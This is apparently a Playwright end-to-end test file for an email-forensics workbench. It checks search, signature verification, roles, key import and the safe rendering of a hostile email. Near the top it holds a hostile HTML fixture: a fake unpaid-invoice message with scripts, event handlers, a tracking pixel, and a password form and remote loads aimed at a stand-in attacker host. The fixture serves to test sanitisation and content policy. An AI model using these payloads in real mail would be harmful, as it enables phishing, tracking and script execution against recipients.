// The workbench in a real browser (Debian's Chromium through playwright-core) over a case built at test
// time from the sample dump, plus one hostile HTML message: search and facets, the verification panel,
// a document's findings, French, the keyboard, and the proof that hostile mail runs and loads nothing.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import yauzl from 'yauzl';
import { readAudit } from '../src/core/audit.ts';
import { type Case, openCase } from '../src/core/case.ts';
import { correspondentGraph, itemProofZip, messageSource, timeline } from '../src/core/graph.ts';
import { ingestIntoCase } from '../src/core/ingest-case.ts';
import { NoProofError } from '../src/core/proof.ts';
import { addUser } from '../src/core/users.ts';
import { buildSampleDump, type SampleManifest } from '../src/sample/build.ts';
import { dkimSignatureFor, generateDkimKeys, keyFileJson } from '../src/sample/synth.ts';
import { type RunningServer, serveCase } from '../src/server/serve.ts';
import { launchChromium, outputPath } from './helpers/browser.ts';
import { message } from './helpers/mail.ts';

const ATTACKER = 'attacker.invalid';
const VISIBLE = 'Texte visible de la facture piégée';

/** Every way an HTML mail has of running something or fetching from its sender. */
const HOSTILE_HTML = `<html><head>
<base href="http://${ATTACKER}/">
<meta http-equiv="refresh" content="0;url=http://${ATTACKER}/refresh">
<link rel="stylesheet" href="http://${ATTACKER}/remote.css">
<style>body { background: url(http://${ATTACKER}/style-block.png) } @import url(http://${ATTACKER}/import.css);</style>
<script>alert('script')</script>
</head>
<body onload="alert('onload')">
<p>${VISIBLE} (n° 2017-118).</p>
<img src="http://${ATTACKER}/pixel.gif" onerror="alert('onerror')" width="1" height="1">
<img srcset="http://${ATTACKER}/srcset.png 2x" src="http://${ATTACKER}/srcset-fallback.png">
<p><a id="jslink" href="javascript:alert('js-link')" onclick="alert('onclick')">Régler la facture</a></p>
<div style="background-image: url(http://${ATTACKER}/inline.png)">Fond</div>
<form action="http://${ATTACKER}/submit" method="post"><input name="password"><button>Envoyer</button></form>
<iframe src="http://${ATTACKER}/frame"></iframe>
<object data="http://${ATTACKER}/object.swf"></object>
<embed src="http://${ATTACKER}/embed.swf">
<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg-onload')"><script>alert('svg')</script><image href="http://${ATTACKER}/svg.png"/></svg>
<video poster="http://${ATTACKER}/poster.png"></video>
</body></html>`;

const HOSTILE_EML = [
  'From: Service facturation <factures@attacker.invalid>',
  'To: h.marchand@en-avant.example',
  'Subject: Facture impayée n° 2017-118',
  'Date: Tue, 16 May 2017 09:12:00 +0200',
  'Message-ID: <facture-2017-118@attacker.invalid>',
  'MIME-Version: 1.0',
  'Content-Type: text/html; charset=utf-8',
  'Content-Transfer-Encoding: 8bit',
  '',
  HOSTILE_HTML,
  '',
].join('\r\n');

let browser: Browser | null = null;
let root: string;
let sample: SampleManifest;
let kase: Case;
let server: RunningServer;
let origin: string;

beforeAll(async () => {
  browser = await launchChromium('web-e2e');
  if (!browser) return;
  root = mkdtempSync(join(tmpdir(), 'crible-web-e2e-'));
  sample = await buildSampleDump(root);
  writeFileSync(join(sample.dumpDir, 'facture-piegee.eml'), HOSTILE_EML);
  kase = openCase(join(root, 'case'), { create: true });
  await ingestIntoCase(kase, [sample.dumpDir], {
    keyFiles: [sample.keysFile],
    disclosedFiles: [sample.disclosedFile],
    workers: 1,
  });
  server = await serveCase(kase, { host: '127.0.0.1', port: 0 });
  origin = server.url.replace(/\/$/, '');
}, 180_000);

afterAll(async () => {
  await browser?.close();
  if (!root) return;
  await server?.close();
  await kase?.store.close();
  rmSync(root, { recursive: true, force: true });
});

/** The first hit's id for a query, through the API the pages use. */
async function firstHit(q: string): Promise<number> {
  const res = await fetch(`${origin}/api/search?q=${encodeURIComponent(q)}&limit=1`);
  const body = (await res.json()) as { hits: { id: number }[] };
  const id = body.hits[0]?.id;
  if (id === undefined) throw new Error(`no hit for ${q}`);
  return id;
}

/** The altered message whose signature fails (the other altered one passes, its shown subject unsigned). */
async function failingSignatureMessage(): Promise<number> {
  const res = await fetch(`${origin}/api/search?q=verdict:altered`);
  for (const { id } of ((await res.json()) as { hits: { id: number }[] }).hits) {
    const item = (await (await fetch(`${origin}/api/items/${id}`)).json()) as {
      analyses: { analyser: string; result: { signatures: { result: string }[] } }[];
    };
    const dkim = item.analyses.find((a) => a.analyser === 'dkim');
    if (dkim?.result.signatures.some((s) => s.result.startsWith('fail'))) return id;
  }
  throw new Error('no altered message with a failing signature');
}

/** The entry names of a zip. */
function zipNames(zip: Buffer): Promise<string[]> {
  return new Promise((resolve, reject) =>
    yauzl.fromBuffer(zip, { lazyEntries: true }, (err, file) => {
      if (err) return reject(err);
      const names: string[] = [];
      file.on('entry', (entry: yauzl.Entry) => {
        names.push(entry.fileName);
        file.readEntry();
      });
      file.on('end', () => resolve(names));
      file.on('error', reject);
      file.readEntry();
    }),
  );
}

/** What a page did: every request, dialog, console line and uncaught error. */
function watch(page: Page) {
  const seen = {
    requests: [] as string[],
    /** Why each request that did not complete failed (the browser's refusal, or the network's). */
    failures: new Map<string, string>(),
    dialogs: [] as string[],
    console: [] as string[],
    errors: [] as string[],
  };
  page.on('request', (r) => seen.requests.push(r.url()));
  page.on('requestfailed', (r) => seen.failures.set(r.url(), r.failure()?.errorText ?? ''));
  page.on('dialog', (d) => {
    seen.dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('console', (m) => seen.console.push(m.text()));
  page.on('pageerror', (e) => seen.errors.push(e.message));
  return seen;
}

async function withPage<T>(lang: 'en' | 'fr', use: (page: Page) => Promise<T>): Promise<T> {
  const context = await browser!.newContext({ viewport: { width: 1280, height: 900 } });
  // Once (a switch made in the page stays), and not in the sandboxed mail frame, which has no storage.
  await context.addInitScript(
    `if (window === window.top && !localStorage.getItem('crible.lang')) localStorage.setItem('crible.lang', ${JSON.stringify(lang)})`,
  );
  const page = await context.newPage();
  try {
    return await use(page);
  } finally {
    await context.close();
  }
}

describe('the workbench in Chromium', () => {
  test('search, then filter by a facet: the URL and the results change', async (ctx) => {
    if (!browser) return ctx.skip();
    await withPage('en', async (page) => {
      await page.goto(`${origin}/search`);
      const count = page.locator('.hits .count');
      await expect.poll(() => count.textContent()).toMatch(/^\d+ results$/);
      const everything = Number((await count.textContent())!.split(' ')[0]);
      await page.screenshot({ path: outputPath('search-en.png') });
      await page.locator('.facet a[href*="verdict%3Aaltered"]').click();
      await page.waitForURL(/\/search\?q=verdict%3Aaltered$/);
      await expect.poll(() => count.textContent()).toBe('2 results');
      expect(everything).toBeGreaterThan(2);
      // The same query, drawn over time.
      expect(await page.locator('.hits a[href^="/timeline"]').getAttribute('href')).toBe(
        `/timeline?q=${encodeURIComponent('verdict:altered')}`,
      );
      const badges = await page
        .locator('.hit .badge')
        .evaluateAll((els) => els.map((e) => e.getAttribute('data-verdict')));
      expect(badges).toEqual(['altered', 'altered']);
      // A typed query narrows again, and the facets follow the results.
      await page.fill('input[name=q]', 'verdict:altered domain:en-avant.example');
      await page.press('input[name=q]', 'Enter');
      await page.waitForURL(/domain%3Aen-avant\.example/);
      await expect.poll(() => page.locator('.facet a[href*="domain%3Apresse"]').count()).toBe(0);
      // A chosen value is marked, and a click on it takes it out of the query again.
      const chosen = page.locator('.facet li.chosen a');
      await expect.poll(() => chosen.count()).toBe(2);
      await chosen.filter({ hasText: 'en-avant.example' }).click();
      await page.waitForURL(/\/search\?q=verdict%3Aaltered$/);
    });
  });

  test('the keyboard moves through the hits (j, k) and opens one (Enter)', async (ctx) => {
    if (!browser) return ctx.skip();
    await withPage('en', async (page) => {
      await page.goto(`${origin}/search?q=${encodeURIComponent('type:email')}`);
      await page.locator('.hit').nth(2).waitFor();
      const selected = () =>
        page.locator('.hit').evaluateAll((els) => els.findIndex((e) => e.classList.contains('selected')));
      await page.locator('body').click({ position: { x: 5, y: 5 } });
      expect(await selected()).toBe(0);
      await page.keyboard.press('j');
      await page.keyboard.press('j');
      expect(await selected()).toBe(2);
      await page.keyboard.press('k');
      expect(await selected()).toBe(1);
      const href = await page.locator('.hit').nth(1).locator('a.subject').getAttribute('href');
      await page.keyboard.press('Enter');
      await page.waitForURL(`${origin}${href}`);
      await page.locator('article.message h1').waitFor();
      // "/" goes back to the search box from anywhere on the search page.
      await page.goBack();
      await page.locator('.hit').first().waitFor();
      await page.keyboard.press('/');
      expect(await page.evaluate('document.activeElement?.getAttribute("name")')).toBe('q');
    });
  });

  test('a message: its verification panel names the verdict, the signature and where the key came from', async (ctx) => {
    if (!browser) return ctx.skip();
    const id = await failingSignatureMessage();
    await withPage('en', async (page) => {
      await page.goto(`${origin}/messages/${id}`);
      const panel = page.locator('section.verification');
      await panel.waitFor();
      expect(await panel.locator('h2 .badge').getAttribute('data-verdict')).toBe('altered');
      const failed = panel.locator('.signature[class*="result-fail"]').first();
      expect(await failed.locator('h3').textContent()).toMatch(
        /^Signature \d: [\w.-]+\.example, selector \w+/,
      );
      expect(await failed.locator('p').first().textContent()).not.toBe('');
      expect(await failed.textContent()).toContain(`from ${sample.keysFile}`);
      await panel.locator('details summary').click();
      expect(await panel.locator('dl.guide').textContent()).toContain('forgeable');
      await page.screenshot({ path: outputPath('message-en.png') });
    });
  });

  test('a message’s attachments say their forensic status beside their names', async (ctx) => {
    if (!browser) return ctx.skip();
    const id = await firstHit('type:email has:attachment');
    await withPage('en', async (page) => {
      await page.goto(`${origin}/messages/${id}`);
      const attachment = page.locator('ul.attachments li').first();
      await expect
        .poll(() => attachment.textContent())
        .toMatch(/ · [\d.]+ (B|KB|MB)\s*(No finding\.|(high|medium|low|info) \S+)$/);
    });
  });

  test('a document with findings shows each rule, its severity and its evidence', async (ctx) => {
    if (!browser) return ctx.skip();
    const id = await firstHit('finding:forensics.unknown-author');
    await withPage('en', async (page) => {
      await page.goto(`${origin}/documents/${id}`);
      const finding = page.locator('.findings li[data-rule="unknown-author"]');
      await finding.waitFor();
      expect(await finding.locator('.sev').textContent()).toBe('medium');
      expect(await finding.locator('dl.evidence').textContent()).toMatch(/author/i);
      expect(await page.locator('.provenance').textContent()).not.toBe('');
      await page.screenshot({ path: outputPath('document-en.png') });
    });
  });

  test('the dashboard, and the switch to French changing the interface’s words', async (ctx) => {
    if (!browser) return ctx.skip();
    const messageId = await firstHit('verdict:altered');
    const documentId = await firstHit('finding:forensics.unknown-author');
    await withPage('en', async (page) => {
      await page.goto(origin);
      await page.locator('.dashboard, main h1').first().waitFor();
      await page.screenshot({ path: outputPath('dashboard-en.png'), fullPage: true });
      // A rule's row searches its documents.
      await page.locator('a', { hasText: 'unknown-author' }).click();
      await expect.poll(() => page.locator('.hits .count').textContent()).toBe('3 results');
      await page.goBack();
      // A part of a week's bar searches that week's emails of that verdict.
      const altered = page.locator(`svg a[href*="verdict%3Aaltered"]`).first();
      const href = (await altered.getAttribute('href'))!;
      expect(decodeURIComponent(href)).toMatch(
        /^\/search\?q=date:\d{4}-\d{2}-\d{2}\.\.\d{4}-\d{2}-\d{2} verdict:altered$/,
      );
      await altered.click();
      await page.waitForURL(`${origin}${href}`);
      await expect
        .poll(() => page.locator('.hit .badge').first().getAttribute('data-verdict'))
        .toBe('altered');
      await page.goBack();
      expect(await page.locator('header nav').textContent()).toContain('Search');
      await page.locator('button.lang').click();
      await expect.poll(() => page.locator('header nav').textContent()).toContain('Recherche');
      expect(await page.locator('main h1').textContent()).toBe('L’affaire en un coup d’œil');
      expect(await page.evaluate('document.documentElement.lang')).toBe('fr');
      await page.screenshot({ path: outputPath('dashboard-fr.png'), fullPage: true });
      // The choice is kept: the next page opened is French too.
      await page.goto(`${origin}/search`);
      await expect.poll(() => page.locator('form button[type=submit]').textContent()).toBe('Rechercher');
      await page.screenshot({ path: outputPath('search-fr.png') });
      await page.goto(`${origin}/messages/${messageId}`);
      await expect.poll(() => page.locator('section.verification h2').textContent()).toMatch(/^Vérification/);
      await page.screenshot({ path: outputPath('message-fr.png') });
      await page.goto(`${origin}/documents/${documentId}`);
      await expect.poll(() => page.locator('article.document h2').first().textContent()).toBe('Constats');
      // The findings' explanations too, not only the headings (the server's words are English).
      const explained = page.locator('.findings li[data-rule="unknown-author"]');
      expect(await explained.textContent()).toContain('Sophie Renaud');
      expect(await explained.textContent()).not.toContain('is not among');
      await page.screenshot({ path: outputPath('document-fr.png') });
    });
  });
});

describe('the drawings, the source and the proof', () => {
  test('the correspondents graph: a click on an address searches its messages', async (ctx) => {
    if (!browser) return ctx.skip();
    await withPage('en', async (page) => {
      await page.goto(`${origin}/correspondents`);
      const nodes = page.locator('svg.graph g.node');
      await nodes.first().waitFor();
      expect(await nodes.count()).toBeGreaterThan(5);
      expect(await page.locator('svg.graph line.edge').count()).toBeGreaterThan(5);
      await page.screenshot({ path: outputPath('correspondents-en.png') });
      // The busiest address comes first, and is the biggest circle.
      const radii = await page
        .locator('svg.graph g.node circle')
        .evaluateAll((els) => els.map((e) => Number(e.getAttribute('r'))));
      expect(radii[0]).toBe(Math.max(...radii));
      const address = await nodes.first().getAttribute('data-address');
      await nodes.first().click();
      await page.waitForURL(`${origin}/search?q=${encodeURIComponent(`participant:${address}`)}`);
      await expect.poll(() => page.locator('.hits .count').textContent()).toMatch(/^\d+ results?$/);
      // A query narrows the graph to its messages' addresses.
      await page.goto(`${origin}/correspondents?q=${encodeURIComponent('domain:presse.example')}`);
      await nodes.first().waitFor();
      const addresses = await nodes.evaluateAll((els) => els.map((e) => e.getAttribute('data-address')));
      expect(addresses.length).toBeLessThan(radii.length);
    });
  });

  test('the timeline: a bar per month, a click filters the search by its period', async (ctx) => {
    if (!browser) return ctx.skip();
    await withPage('fr', async (page) => {
      await page.goto(`${origin}/timeline`);
      const bars = page.locator('.bars a.bar');
      await bars.first().waitFor();
      expect(await page.locator('.timeline h2').textContent()).toBe('Messages par mois');
      const periods = await bars.evaluateAll((els) => els.map((e) => e.getAttribute('data-period')));
      expect(periods.every((p) => /^\d{4}-\d{2}$/.test(p ?? ''))).toBe(true);
      await page.screenshot({ path: outputPath('timeline-fr.png') });
      const busiest = page.locator('.bars a.bar .n.shown').first();
      const month = await busiest.evaluate((e) => e.parentElement!.getAttribute('data-period'));
      await busiest.click();
      await page.waitForURL(`${origin}/search?q=${encodeURIComponent(`date:${month}`)}`);
      // One month: counted per day, every day of it drawn (quiet days at 0).
      await page.goto(`${origin}/timeline?q=${encodeURIComponent(`date:${month}`)}`);
      await expect.poll(() => page.locator('.timeline h2').textContent()).toBe('Messages par jour');
      expect(await bars.count()).toBeGreaterThanOrEqual(28);
    });
  });

  test('the source is shown as text, and the proof downloads as a zip', async (ctx) => {
    if (!browser) return ctx.skip();
    const hostile = await firstHit('"facture impayée"');
    const signed = await failingSignatureMessage();
    await withPage('en', async (page) => {
      const seen = watch(page);
      await page.goto(`${origin}/messages/${hostile}`);
      await page.locator('a', { hasText: 'Source (headers and raw text)' }).click();
      await page.waitForURL(`${origin}/messages/${hostile}/source`);
      const raw = page.locator('pre.raw');
      await raw.waitFor();
      // The hostile HTML, as characters on the page: nothing of it became an element.
      expect(await raw.textContent()).toContain("<script>alert('script')</script>");
      expect(await page.locator('main script, main iframe, main img').count()).toBe(0);
      expect(seen.dialogs).toEqual([]);
      await page.goto(`${origin}/messages/${signed}`);
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page.locator('a', { hasText: 'Download the proof (zip)' }).click(),
      ]);
      expect(download.suggestedFilename()).toBe(`proof-${signed}.zip`);
    });
    const res = await fetch(`${origin}/api/items/${signed}/proof.zip`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="proof-${signed}.zip"`);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    const zip = Buffer.from(await res.arrayBuffer());
    const names = await zipNames(zip);
    expect(names).toContain(`proof-${signed}/message.eml`);
    expect(names).toContain(`proof-${signed}/keys.json`);
    expect((await fetch(`${origin}/api/items/999999/proof.zip`)).status).toBe(404);
  });
});

describe('the drawings’ data (core/graph.ts) on the same case', () => {
  test('the graph keeps the busiest addresses, and only the links between them', async (ctx) => {
    if (!browser) return ctx.skip();
    const whole = await correspondentGraph(kase.store, '');
    const top = await correspondentGraph(kase.store, '', 5);
    expect(top.nodes.map((n) => n.address)).toEqual(whole.nodes.slice(0, 5).map((n) => n.address));
    expect(top.totalNodes).toBe(whole.totalNodes);
    const kept = new Set(top.nodes.map((n) => n.address));
    expect(top.edges.length).toBeGreaterThan(0);
    expect(top.edges.every((e) => kept.has(e.from) && kept.has(e.to) && e.from !== e.to)).toBe(true);
    await expect(correspondentGraph(kase.store, '"')).rejects.toThrow();
  });

  test('the timeline has a bar for every month from the first to the last, quiet ones at 0', async (ctx) => {
    if (!browser) return ctx.skip();
    const { unit, bars } = await timeline(kase.store, 'type:email');
    expect(unit).toBe('month');
    for (let i = 1; i < bars.length; i++) {
      const [y, m] = bars[i - 1]!.period.split('-').map(Number) as [number, number];
      expect(bars[i]!.period).toBe(m === 12 ? `${y + 1}-01` : `${y}-${String(m + 1).padStart(2, '0')}`);
    }
    expect(bars.reduce((sum, b) => sum + b.count, 0)).toBeGreaterThan(0);
    expect(await timeline(kase.store, 'nosuchwordanywhere')).toEqual({ unit: 'month', bars: [] });
  });

  test('a document has no source view and no proof; a message’s source is its stored bytes', async (ctx) => {
    if (!browser) return ctx.skip();
    const documentId = await firstHit('finding:forensics.unknown-author');
    expect(await messageSource(kase.store, documentId)).toBeNull();
    await expect(itemProofZip(kase.store, documentId)).rejects.toBeInstanceOf(NoProofError);
    const messageId = await firstHit('"facture impayée"');
    const source = await messageSource(kase.store, messageId);
    expect(source?.shown).toBe(source?.size);
    expect(source?.text.replace(/\r\n/g, '\n')).toBe(HOSTILE_EML.replace(/\r\n/g, '\n'));
    expect((await fetch(`${origin}/api/items/${documentId}/source`)).status).toBe(404);
    expect((await fetch(`${origin}/api/correspondents?q=%22`)).status).toBe(400);
  });
});

describe('triage and access', () => {
  test('add a tag to a message: its chip shows, and stays after a reload', async (ctx) => {
    if (!browser) return ctx.skip();
    const id = await failingSignatureMessage();
    await withPage('en', async (page) => {
      await page.goto(`${origin}/messages/${id}`);
      await page.getByTestId('tag-input').fill('to-check');
      await page.getByTestId('tag-add').click();
      const chips = page.getByTestId('tag-chip');
      await expect.poll(() => chips.allTextContents()).toEqual([expect.stringContaining('to-check')]);
      await page.reload();
      await expect.poll(() => chips.allTextContents()).toEqual([expect.stringContaining('to-check')]);
      await page.screenshot({ path: outputPath('message-tagged-en.png') });
    });
  });

  test('a loopback workbench restarted under an open page: the next write fetches the new token and goes through', async (ctx) => {
    if (!browser) return ctx.skip();
    const id = await failingSignatureMessage();
    const before = await serveCase(kase, { host: '127.0.0.1', port: 0 });
    const port = Number(new URL(before.url).port);
    let after: RunningServer | null = null;
    try {
      await withPage('en', async (page) => {
        await page.goto(`${before.url}messages/${id}`);
        await page.getByTestId('tag-input').waitFor();
        await before.close();
        after = await serveCase(kase, { host: '127.0.0.1', port });
        await page.getByTestId('tag-input').fill('after-restart');
        await page.getByTestId('tag-add').click();
        await expect
          .poll(() => page.getByTestId('tag-chip').allTextContents())
          .toContainEqual(expect.stringContaining('after-restart'));
        expect(await page.getByTestId('triage-error').count()).toBe(0);
      });
    } finally {
      await (after as RunningServer | null)?.close();
      await kase.store.workbench.removeTags(id, ['after-restart']);
    }
  });

  test('the queue loads directly by its URL, marked in the navigation', async (ctx) => {
    if (!browser) return ctx.skip();
    await withPage('en', async (page) => {
      const seen = watch(page);
      await page.goto(`${origin}/queue`);
      await page.getByTestId('queue-page').waitFor();
      expect(await page.locator('h1').textContent()).toBe('Queue of flagged items');
      await page.getByTestId('queue-row').first().waitFor();
      expect(await page.getByTestId('nav-queue').getAttribute('class')).toBe('on');
      expect(await page.locator('main').textContent()).not.toContain('Nothing at');
      expect(seen.errors).toEqual([]);
    });
  });

  test('log in, and see role limits enforced: a viewer reads but cannot tag, a reviewer can', async (ctx) => {
    if (!browser) return ctx.skip();
    const cli = { name: 'e2e', via: 'cli' } as const;
    await addUser(kase.store, cli, { name: 'vera', role: 'viewer', password: 'viewer-password-1' });
    await addUser(kase.store, cli, { name: 'rene', role: 'reviewer', password: 'reviewer-password-1' });
    const shared = await serveCase(kase, { host: '127.0.0.1', port: 0, requireLogin: true });
    const sharedOrigin = shared.url.replace(/\/$/, '');
    const id = await failingSignatureMessage();
    const logIn = async (page: Page, name: string, password: string) => {
      await page.goto(`${sharedOrigin}/messages/${id}`);
      await page.getByTestId('login-name').fill(name);
      await page.getByTestId('login-password').fill(password);
      await page.getByTestId('login-form').locator('button[type=submit]').click();
    };
    try {
      // Nothing of the case without a session.
      expect((await fetch(`${sharedOrigin}/api/search?q=`)).status).toBe(401);
      await withPage('en', async (page) => {
        await logIn(page, 'vera', 'not-her-password');
        await expect
          .poll(() => page.locator('[data-testid=login-page] .error').textContent())
          .toBe('Wrong name or password.');
        await page.screenshot({ path: outputPath('login-refused-en.png') });
        await logIn(page, 'vera', 'viewer-password-1');
        await page.locator('section.verification').waitFor();
        expect(await page.getByTestId('session-user').textContent()).toContain('vera');
        await page.getByTestId('triage').waitFor();
        expect(await page.getByTestId('tag-form').count()).toBe(0);
        // The server refuses the write too, not just the page that hides the form.
        const status = await page.evaluate(async (itemId) => {
          const who = (await (await fetch('/api/session')).json()) as { csrfToken?: string };
          const res = await fetch(`/api/items/${itemId}/tags`, {
            method: 'POST',
            headers: { 'Content-Type': 'application/json', 'X-CSRF-Token': who.csrfToken ?? '' },
            body: JSON.stringify({ tags: ['viewer-was-here'] }),
          });
          return res.status;
        }, id);
        expect(status).toBe(403);
      });
      await withPage('en', async (page) => {
        await logIn(page, 'rene', 'reviewer-password-1');
        await page.getByTestId('tag-input').fill('reviewed');
        await page.getByTestId('tag-add').click();
        await expect
          .poll(() => page.getByTestId('tag-chip').allTextContents())
          .toContainEqual(expect.stringContaining('reviewed'));
        expect(await page.getByTestId('tag-chip').allTextContents()).not.toContainEqual(
          expect.stringContaining('viewer-was-here'),
        );
      });
    } finally {
      await shared.close();
    }
  });
});

describe('the key hunt and its import form', () => {
  test('a reviewer imports a found key through /keys: the waiting email is checked again and verified; a viewer gets no form, and the API refuses her', async (ctx) => {
    if (!browser) return ctx.skip();
    // A case of its own: one signed email whose key the archive lacks.
    const [key] = generateDkimKeys([
      { domain: 'mairie.example', selector: 's2017', type: 'rsa', bits: 2048 },
    ]);
    const dump = join(root, 'keyless');
    mkdirSync(dump);
    const date = 'Wed, 10 May 2017 11:30:00 +0200';
    const content = message({
      id: 'keyless',
      subject: 'Conseil municipal',
      from: 'Claire Petit <c.petit@mairie.example>',
      date,
    });
    const signature = await dkimSignatureFor(content, key!, { signTime: new Date(date) });
    writeFileSync(join(dump, 'conseil.eml'), Buffer.concat([Buffer.from(signature), content]));
    const keyless = openCase(join(root, 'keyless-case'), { create: true });
    await ingestIntoCase(keyless, [dump], { workers: 1 });
    const cli = { name: 'e2e', via: 'cli' } as const;
    await addUser(keyless.store, cli, { name: 'vera', role: 'viewer', password: 'viewer-password-1' });
    await addUser(keyless.store, cli, { name: 'rene', role: 'reviewer', password: 'reviewer-password-1' });
    const shared = await serveCase(keyless, { host: '127.0.0.1', port: 0, requireLogin: true });
    const sharedOrigin = shared.url.replace(/\/$/, '');
    const verdict = async () => {
      const [row] = await keyless.store.listItems({ type: 'message' });
      return (await keyless.store.getAnalysis(row!.id, 'dkim'))?.summary;
    };
    const logIn = async (page: Page, name: string, password: string) => {
      await page.goto(`${sharedOrigin}/keys`);
      await page.getByTestId('login-name').fill(name);
      await page.getByTestId('login-password').fill(password);
      await page.getByTestId('login-form').locator('button[type=submit]').click();
      await page.getByTestId('keys-missing').waitFor();
    };
    try {
      expect(await verdict()).toBe('key-unavailable');
      await withPage('fr', async (page) => {
        await logIn(page, 'vera', 'viewer-password-1');
        expect(await page.getByTestId('keys-missing').textContent()).toContain('mairie.example');
        expect(await page.getByTestId('key-import').count()).toBe(0);
        expect(await page.locator('section.keys').textContent()).toContain(
          'Les relecteurs et les administrateurs peuvent importer ici les clés retrouvées.',
        );
        await page.screenshot({ path: outputPath('keys-viewer-fr.png'), fullPage: true });
        const status = await page.evaluate(
          async (text) => {
            const who = (await (await fetch('/api/session')).json()) as { csrfToken?: string };
            const res = await fetch('/api/keys/import', {
              method: 'POST',
              headers: { 'Content-Type': 'application/json', 'X-CSRF-Token': who.csrfToken ?? '' },
              body: JSON.stringify({ name: 'keys.json', text }),
            });
            return res.status;
          },
          JSON.stringify(keyFileJson([key!])),
        );
        expect(status).toBe(403);
      });
      expect(await verdict()).toBe('key-unavailable');
      await withPage('en', async (page) => {
        await logIn(page, 'rene', 'reviewer-password-1');
        await page.screenshot({ path: outputPath('keys-import-form-en.png'), fullPage: true });
        // An empty file is said so before anything is sent.
        await page.getByTestId('key-file').setInputFiles({
          name: 'vide.csv',
          mimeType: 'text/csv',
          buffer: Buffer.alloc(0),
        });
        await page.getByTestId('key-import-submit').click();
        expect(await page.getByTestId('key-import-error').textContent()).toBe(
          'vide.csv is empty: there is nothing in it to import.',
        );
        await page.getByTestId('key-file-clear').click();
        // Pasted text that holds no key: said by line, and nothing changes.
        await page.getByTestId('key-paste').fill('domain,selector,value\nmairie.example,s2017\n');
        await page.getByTestId('key-import-submit').click();
        const result = page.getByTestId('key-import-result');
        await expect.poll(() => result.textContent()).toContain('One line of the file could not be read:');
        expect(await result.textContent()).toContain('pasted text: no key record read.');
        expect(await result.textContent()).toContain('No email needed checking again.');
        await page.getByTestId('key-file').setInputFiles({
          name: 'cles-mairie.json',
          mimeType: 'application/json',
          buffer: Buffer.from(JSON.stringify(keyFileJson([key!]))),
        });
        expect(await page.getByTestId('key-file-chosen').textContent()).toBe(
          'cles-mairie.json will be imported.',
        );
        expect(await page.getByTestId('key-paste').count()).toBe(0);
        await page.screenshot({ path: outputPath('keys-file-chosen-en.png'), fullPage: true });
        await page.getByTestId('key-import-submit').click();
        await expect
          .poll(() => result.textContent(), { timeout: 30_000 })
          .toContain('One email checked again: one verdict changed.');
        expect(await result.textContent()).toContain(
          'cles-mairie.json: one key record read, new to the archive.',
        );
        expect(await page.getByTestId('key-import-changes').textContent()).toBe(
          'One email: key unavailable → authentic',
        );
        // The list is loaded again: nothing waits any more.
        await page.getByTestId('keys-none').waitFor();
        await page.screenshot({ path: outputPath('keys-imported-en.png'), fullPage: true });
        // The result in French too (the switch keeps the page as it is).
        await page.locator('button.lang').click();
        await expect
          .poll(() => result.textContent())
          .toContain('Un courriel vérifié de nouveau\u00a0: un verdict a changé.');
        expect(await page.getByTestId('key-import-changes').textContent()).toBe(
          'Un courriel\u00a0: clé introuvable → authentique',
        );
        await page.screenshot({ path: outputPath('keys-imported-fr.png'), fullPage: true });
      });
      expect(await verdict()).toBe('authentic');
      const imports = (await readAudit(keyless.store)).filter((e) => e.action === 'keys.import');
      expect(imports.map((e) => [e.user, e.details])).toEqual([
        ['rene', { file: 'pasted text', found: 0, added: 0, checked: 0, changed: 0 }],
        ['rene', { file: 'cles-mairie.json', found: 1, added: 1, checked: 1, changed: 1 }],
      ]);
    } finally {
      await shared.close();
      await keyless.store.close();
    }
  }, 120_000);
});

describe('hostile HTML mail in Chromium', () => {
  test('its message page runs nothing and loads nothing from outside, and still shows the text', async (ctx) => {
    if (!browser) return ctx.skip();
    const id = await firstHit('"facture impayée"');
    await withPage('en', async (page) => {
      const seen = watch(page);
      await page.goto(`${origin}/messages/${id}`);
      const frame = page.frameLocator('iframe.mail');
      await frame.locator('p').first().waitFor();
      expect(await frame.locator('body').textContent()).toContain(VISIBLE);
      // A click on the link and on the former form's button: nothing may follow.
      await frame.locator('a', { hasText: 'Régler la facture' }).click();
      await page.waitForLoadState('networkidle');
      await page.screenshot({ path: outputPath('message-hostile.png'), fullPage: true });
      expect(seen.dialogs).toEqual([]);
      expect(seen.errors).toEqual([]);
      expect(seen.requests.filter((u) => !u.startsWith(`${origin}/`))).toEqual([]);
      expect(seen.requests.filter((u) => u.includes(ATTACKER))).toEqual([]);
      // Nothing was even tried: the sanitiser removed it before the policy had to refuse it.
      expect(seen.console.filter((l) => l.includes(ATTACKER) || /Content Security Policy/i.test(l))).toEqual(
        [],
      );
      expect(page.url()).toBe(`${origin}/messages/${id}`);
    });
  });

  test('its original bytes come only as a download, never as a page the browser would render', async (ctx) => {
    if (!browser) return ctx.skip();
    const id = await firstHit('"facture impayée"');
    await withPage('en', async (page) => {
      const seen = watch(page);
      await page.goto(`${origin}/messages/${id}`);
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page.locator('a', { hasText: 'Download the original bytes' }).click(),
      ]);
      expect(download.suggestedFilename()).toBe(`item-${id}.eml`);
      expect(seen.dialogs).toEqual([]);
    });
    const res = await fetch(`${origin}/api/items/${id}/raw`);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(res.headers.get('content-type')).toBe('application/octet-stream');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  });

  test('the frame’s policy alone stops the raw hostile HTML (if the sanitiser ever missed something)', async (ctx) => {
    if (!browser) return ctx.skip();
    const id = await firstHit('"facture impayée"');
    const bodyUrl = `${origin}/api/items/${id}/body.html`;
    const served = await fetch(bodyUrl);
    const policy = served.headers.get('content-security-policy');
    expect(policy).toContain("default-src 'none'");
    await withPage('en', async (page) => {
      const seen = watch(page);
      // The same response headers as the real frame, over the unsanitised HTML.
      await page.route(bodyUrl, (route) =>
        route.fulfill({
          status: 200,
          headers: { 'Content-Type': 'text/html; charset=utf-8', 'Content-Security-Policy': policy! },
          body: HOSTILE_HTML,
        }),
      );
      await page.goto(`${origin}/messages/${id}`);
      const frame = page.frameLocator('iframe.mail');
      await frame.locator('p').first().waitFor();
